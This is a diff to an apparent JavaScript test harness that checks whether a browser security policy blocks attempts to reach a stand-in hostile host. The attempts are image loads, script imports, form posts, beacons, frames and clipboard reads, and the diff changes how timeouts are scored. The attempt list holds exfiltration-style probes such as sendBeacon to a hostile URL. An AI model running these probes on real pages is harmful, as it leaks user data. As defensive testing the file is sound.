@@ -33,7 +33,7 @@ const attempts = {
   'a picture': `await new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = () => fail(new Error('refused')); i.src = '${hostile}/picture.png' })`,
   'a script': `await import('${hostile}/script.js')`,
   'code from text': "eval('1 + 1')",
-  'a form': `await new Promise((done, fail) => { document.addEventListener('securitypolicyviolation', () => fail(new Error('refused'))); const f = document.createElement('form'); f.action = '${hostile}/form'; f.method = 'post'; document.body.append(f); f.submit(); setTimeout(() => fail(new Error('nothing came')), 500) })`,
+  'a form': `await new Promise((done, fail) => { document.addEventListener('securitypolicyviolation', () => fail(new Error('refused'))); const f = document.createElement('form'); f.action = '${hostile}/form'; f.method = 'post'; document.body.append(f); f.submit(); setTimeout(() => done('without a violation'), 5000) })`,
   'a beacon': `await refused(() => navigator.sendBeacon('${hostile}/beacon', 'code'))`,
   'a worker': "await refused(() => new Worker(URL.createObjectURL(new Blob(['1']))))",
   'a frame': `await refused(() => document.body.append(Object.assign(document.createElement('iframe'), { src: '${hostile}/frame' })))`,
@@ -48,12 +48,12 @@ const attempts = {
   'the clipboard': 'await navigator.clipboard.readText()',
 }
 
-/** Part of the attacking code. Always rejects: with `refused` if the browser reports a policy violation, otherwise with `nothing came`. */
+/** Part of the attacking code: rejects once the browser reports a policy violation, and resolves without one. */
 const refused = `function refused(act) {
   return new Promise((done, fail) => {
     document.addEventListener('securitypolicyviolation', () => fail(new Error('refused')), { once: true })
     act()
-    setTimeout(() => fail(new Error('nothing came')), 300)
+    setTimeout(() => done('without a violation'), 5000)
   })
 }`
 
